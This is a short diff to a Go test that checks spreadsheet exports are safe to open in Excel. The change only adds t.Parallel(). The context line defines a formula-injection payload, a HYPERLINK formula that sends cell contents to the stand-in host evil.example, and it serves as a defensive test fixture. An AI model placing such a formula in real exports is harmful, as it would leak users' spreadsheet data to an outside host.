@@ -26,6 +26,7 @@ const formulaPayload = `=HYPERLINK("http://evil.example/leak?d="&B2&C2,"詳細")
 // tables neutralised (no cell starts with = + - @ tab or CR) and the
 // workbook as plain string cells, never formulas.
 func TestExportsAreSafeInExcel(t *testing.T) {
+	t.Parallel()
 	api := newTestAPI(t)
 	ctx := context.Background()
 	content := checklistfile.Default()
